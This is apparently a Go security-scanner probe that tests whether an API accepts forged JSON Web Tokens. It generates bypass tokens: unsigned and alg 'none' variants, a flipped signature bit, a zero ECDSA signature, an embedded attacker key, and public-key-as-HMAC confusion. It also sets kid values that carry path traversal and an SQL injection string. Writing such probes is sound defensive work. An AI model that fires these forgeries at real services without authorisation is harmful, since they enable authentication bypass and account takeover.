// Package forgedtoken forges the caller's JSON Web Token in every way that verifiers have fallen for.
package forgedtoken

import (
	"context"
	"crypto/rand"
	"crypto/rsa"
	_ "embed"
	"encoding/base64"
	"encoding/pem"
	"fmt"
	"math/big"
	"net/http"
	"strings"
	"sync"

	"palisade.dev/scan"
	"palisade.dev/scan/api"
	"palisade.dev/scan/api/client"
	"palisade.dev/scan/api/jwt"
)

//go:embed doc.md
var doc string

// Probe is the probe.
var Probe = api.Probe{
	Check: scan.Check{
		ID: "api/authentication/forgedtoken", Title: "Forged token is accepted", Severity: scan.Critical, CWE: []int{347, 287},
		Standards: []string{"OWASP API2:2023", "PCI DSS 4.0 8.3", "PCI DSS 4.0 6.2.4", "SOC 2 CC6.1"}, Doc: doc,
	},
	Needs: api.Token, Whole: true,
	Fix: "Verify with a library, tell it the one algorithm and the one key that you use, and take neither from the token's header (alg, kid, jwk, jku, x5u). Refuse unknown crit.",
	Run: run,
}

// forgery is one way to write a token that must be refused.
type forgery struct {
	name string
	why  string // what the server then does wrong
	text string
}

func run(ctx context.Context, l *api.Look) {
	op, c := l.Guarded(ctx)
	if op == nil {
		l.NotGuarded()
		return
	}
	who := c.Valid.Request.As
	token, err := jwt.Parse(who.Token())
	if err != nil {
		l.CannotTell(err.Error(), "give an identity whose credential is a signed JSON Web Token")
		return
	}
	any, tried := false, 0
	for _, f := range forgeries(token, published(ctx, l)) {
		x := l.Ask(ctx, "forged: "+f.name, c.Valid.Request.Claiming(who, who.WithToken(f.text)))
		if !x.Kind().Tells() {
			continue
		}
		tried++
		if !c.LetIn(x) {
			continue
		}
		again := l.Again(ctx, x, c)
		if again == nil {
			continue
		}
		any = true
		l.Found(api.Hit{
			Op: op, Confidence: scan.Confirmed, Key: f.name, Param: "header:Authorization", Evidence: api.Show(c.Valid, c.Junk, x, again),
			Message: fmt.Sprintf("A token with %s is accepted as %s's: %s.", f.name, who.Name, f.why),
		})
		if f.name == "one bit of the signature turned" {
			// Nothing is verified at all; all other forgeries would say the same again.
			return
		}
	}
	switch {
	case any:
	case tried == 0:
		l.CannotTell("no forged token was answered", "")
	default:
		l.Clear(fmt.Sprintf("%d forgeries of the token were refused", tried))
	}
}

// ownKey is one key for all forgeries of a run of the program: it takes a moment to make.
var ownKey = sync.OnceValue(func() *rsa.PrivateKey {
	key, err := rsa.GenerateKey(rand.Reader, 2048)
	if err != nil {
		panic("making a key: " + err.Error()) // since Go 1.24 the source of chance does not fail
	}
	return key
})

func forgeries(t *jwt.Token, keys []publicKey) []forgery {
	turned := append([]byte{}, t.Signature...)
	if len(turned) > 0 {
		turned[len(turned)/2] ^= 1
	}
	own := ownKey()
	secret := make([]byte, 32)
	_, _ = rand.Read(secret)
	hs := func(fields map[string]any) *jwt.Token {
		if fields == nil {
			fields = map[string]any{}
		}
		fields["alg"] = "HS256"
		return t.With(fields)
	}
	list := []forgery{
		{"one bit of the signature turned", "the signature is not verified at all", t.Carrying(turned)},
		{"no signature", "a missing signature is taken for a good one", t.Unsigned()},
		{"a signature by a key of our own", "the signature is not verified against your key", hs(nil).HMAC(secret)},
		{"a signature by an empty secret", "the secret is empty", hs(nil).HMAC(nil)},
		{"a signature of nothing but zeros", "a signature of zeros is taken for a good one (as in CVE-2022-21449)", t.With(map[string]any{"alg": "ES256"}).Carrying(make([]byte, 64))},
	}
	for _, none := range []string{"none", "None", "NONE", "nOnE"} {
		list = append(list, forgery{`the algorithm "` + none + `"`, "the token itself says that it needs no signature, and is believed", t.With(map[string]any{"alg": none}).Unsigned()})
	}
	jwk := map[string]any{"kty": "RSA", "e": "AQAB", "n": base64.RawURLEncoding.EncodeToString(own.N.Bytes()), "kid": "palisade"}
	list = append(list,
		forgery{"a key of our own in its header (jwk)", "the token brings the key that it is verified with", t.With(map[string]any{"alg": "RS256", "jwk": jwk, "kid": "palisade"}).RSA(own)},
		forgery{"a key identifier that names an empty file", "kid is used as a path", hs(map[string]any{"kid": "../../../../../../dev/null"}).HMAC(nil)},
		forgery{"a key identifier that names an empty file, its content a zero byte", "kid is used as a path", hs(map[string]any{"kid": "/dev/null"}).HMAC([]byte{0})},
		forgery{"a key identifier that is SQL", "kid is put into a query, whose answer is the key", hs(map[string]any{"kid": "x' UNION SELECT 'palisade"}).HMAC([]byte("palisade"))},
	)
	for _, k := range keys {
		for _, form := range k.forms {
			list = append(list, forgery{"your public key used as a secret (" + k.from + ")", "a token by HMAC is verified with the public key, which everybody has", hs(map[string]any{"kid": k.id}).HMAC(form)})
		}
	}
	return list
}

// publicKey is one that the target publishes, in the forms in which a program may hold it.
type publicKey struct {
	id    any
	from  string
	forms [][]byte
}

// published reads the keys a target tells everybody.
func published(ctx context.Context, l *api.Look) []publicKey {
	return l.Once("published keys", func() any {
		var keys []publicKey
		for _, p := range []string{"/.well-known/jwks.json", "/jwks.json", "/.well-known/jwks", "/oauth/jwks", "/public.pem", "/public-key", "/key.pub"} {
			u, err := l.Base.Parse(p)
			if err != nil {
				continue
			}
			x := l.Ask(ctx, "published keys", client.Request{Method: http.MethodGet, URL: u.String()})
			if !x.OK() {
				continue
			}
			if block, _ := pem.Decode(x.Body); block != nil {
				text := string(pem.EncodeToMemory(block))
				keys = append(keys, publicKey{nil, p, [][]byte{[]byte(text), []byte(strings.TrimSpace(text)), block.Bytes, x.Body}})
				continue
			}
			set, _ := x.JSON().(map[string]any)
			list, _ := set["keys"].([]any)
			for _, k := range list[:min(len(list), 4)] {
				if key, ok := fromJWK(k, p); ok {
					keys = append(keys, key)
				}
			}
		}
		return keys
	}).([]publicKey)
}

func fromJWK(v any, from string) (publicKey, bool) {
	m, _ := v.(map[string]any)
	n, _ := m["n"].(string)
	e, _ := m["e"].(string)
	modulus, err1 := base64.RawURLEncoding.DecodeString(n)
	exponent, err2 := base64.RawURLEncoding.DecodeString(e)
	if m["kty"] != "RSA" || err1 != nil || err2 != nil || len(modulus) < 64 || len(exponent) > 4 {
		return publicKey{}, false
	}
	key := &rsa.PublicKey{N: new(big.Int).SetBytes(modulus), E: int(new(big.Int).SetBytes(exponent).Int64())}
	return publicKey{m["kid"], from, Forms(key)}, true
}
